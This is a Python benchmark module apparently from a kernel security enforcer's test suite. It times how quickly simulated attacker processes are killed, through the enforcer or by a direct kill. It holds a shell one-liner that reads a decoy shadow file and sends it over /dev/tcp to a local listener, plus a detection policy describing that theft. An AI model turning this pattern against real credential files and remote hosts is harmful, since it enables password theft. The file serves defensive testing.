"""From the last system call of a sequence to the process's death: through the enforcer, and by the direct kill.

    python -m tests.bench.bench_kill --json kill.json

Real attackers, killed on the real kernel. Both ends are kernel times (CLOCK_BOOTTIME): the last step's event as the alert has
it, and the exit as a second, independent sensor saw it. The daemons run as an installation's do, and are started anew for each
block, for one start differs from the next by a third. The two ways take turns, and beside them a chain of three
idle interpreters that only hand a line on and kill: it tells what waking as many costs on this host at this moment, which changes
from hour to hour on one that is shared. Needs root.
"""

from __future__ import annotations

import signal
import socket
import statistics
import subprocess
import tempfile
from pathlib import Path
from typing import Any

from tests.bench import command
from tests.bench.relay import Relay, asleep_until_end
from tests.bench.settled import Settled
from tests.support.arena import eventually
from tests.support.live import Live

BLOCKS = 6
ATTACKS = 40  # in each block, for each way
_POLICY = """
policy "theft" key process within 1m response enforce {
    open    { path = "DECOY" exe = "ATTACKER" }
    connect { family = AF_INET }
    write   { content contains "root:" }
    on match { alert; kill }
}
"""
_SCRIPT = 'read -r s < decoy/shadow; exec 3<> "/dev/tcp/127.0.0.1/$1"; printf "%s" "$s" >&3; read -r s'


def run() -> dict[str, Any]:
    """Returns for each way the latencies' p50, p99 and maximum in ms, the p50 of each block, and how many attackers it missed."""
    blocks: dict[str, list[list[float]]] = {"enforcer": [], "direct": [], "bare chain": []}
    for _ in range(BLOCKS):
        for way, latencies in _block().items():
            blocks[way].append(latencies)
    return {way: _spread(latencies) for way, latencies in blocks.items()}


def _block() -> dict[str, list[float]]:
    """Starts the daemons and has each way kill ATTACKS attackers; returns the latencies in ms of those that were killed."""
    settings = {
        "enforcer": {"kills_per_minute": 10_000, "kills_per_minute_per_policy": 10_000},
        "policyd": {"order_timeout_ms": 100},
    }
    with (
        tempfile.TemporaryDirectory(prefix="execray-bench-") as folder,
        socket.create_server(("127.0.0.1", 0), backlog=512) as server,
        Settled(Path(folder), _POLICY, **settings) as arena,
        Live([]) as witness,
        Relay() as relay,
    ):
        found: dict[str, list[float]] = {}
        for way in ("enforcer", "direct"):
            _set_way(arena, way)
            _attack(arena, witness, server)  # the first one warms caches
            latencies = [_attack(arena, witness, server) for _ in range(ATTACKS)]
            found[way] = [latency for latency in latencies if latency is not None]
        return {**found, "bare chain": [relay.kill(witness) for _ in range(ATTACKS)]}


def _set_way(arena: Settled, way: str) -> None:
    if way == "enforcer" and not arena.stack.running("enforcer"):
        arena.stack.start("enforcer")
        arena.as_unit("enforcer")
        eventually(lambda: arena.status("policyd")["enforcer"]["connected"])
    elif way == "direct":
        arena.stack.stop("enforcer", signal.SIGKILL)
        eventually(lambda: not arena.status("policyd")["enforcer"]["connected"])


def _attack(arena: Settled, witness: Live, server: socket.socket) -> float | None:
    """Runs one attacker; returns milliseconds from its last step to its exit, None when it lived."""
    command = [str(arena.attacker), "-c", _SCRIPT, "attack", str(server.getsockname()[1])]
    with subprocess.Popen(command, cwd=arena.dir, stdin=subprocess.PIPE) as child:
        connection, _ = server.accept()
        with connection:
            # asleep, so that the bench takes no processor from those it measures; the witness's ring holds what it needs
            status = asleep_until_end(child, 10)
            events = witness.drain()
        if status != -signal.SIGKILL:
            return None
    death = next(e.time_ns for e in events if e.type.name == "exit" and e.get("pid") == child.pid)
    alert = arena.await_alert(lambda a: a.get("process", {}).get("pid") == child.pid)
    last_step: int = alert["execray"]["time_ns"]
    return (death - last_step) / 1e6


def _spread(blocks: list[list[float]]) -> dict[str, Any]:
    ordered = sorted(latency for block in blocks for latency in block)
    return {
        "attacks": len(ordered),
        "p50_ms": round(statistics.median(ordered), 3),
        "p99_ms": round(ordered[max(0, int(len(ordered) * 0.99) - 1)], 3),
        "max_ms": round(ordered[-1], 3),
        "blocks_p50_ms": [round(statistics.median(block), 3) for block in blocks if block],
        "missed": len(blocks) * ATTACKS - len(ordered),
    }


def table(result: dict[str, Any]) -> str:
    """Returns the result for people."""
    lines = ["from the last step to the death  attacks   p50 ms  (of each start)   p99 ms   max ms  missed"]
    for way, found in result.items():
        least, most = min(found["blocks_p50_ms"]), max(found["blocks_p50_ms"])
        lines.append(
            f"{way:32} {found['attacks']:6} {found['p50_ms']:8.2f}  ({least:5.2f} to {most:5.2f})"
            f" {found['p99_ms']:8.2f} {found['max_ms']:8.2f} {found['missed']:7}"
        )
    return "\n".join(lines)


if __name__ == "__main__":
    command.main(__doc__, run, table)
